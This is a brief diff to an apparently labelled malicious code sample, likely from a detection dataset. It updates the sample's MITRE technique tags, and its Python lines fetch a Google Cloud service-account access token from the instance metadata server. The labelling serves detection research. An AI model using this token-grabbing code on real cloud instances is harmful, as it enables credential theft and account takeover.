@@ -1,4 +1,4 @@
-# label: malicious family=metadata techniques=T1552.005,T1098.004 lines=4-6
+# label: malicious family=metadata techniques=T1098.004,T1550.001,T1552.005 lines=4-6
 import requests, subprocess
 h = {"Metadata-Flavor": "Google"}
 tok = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers=h).json()["access_token"]
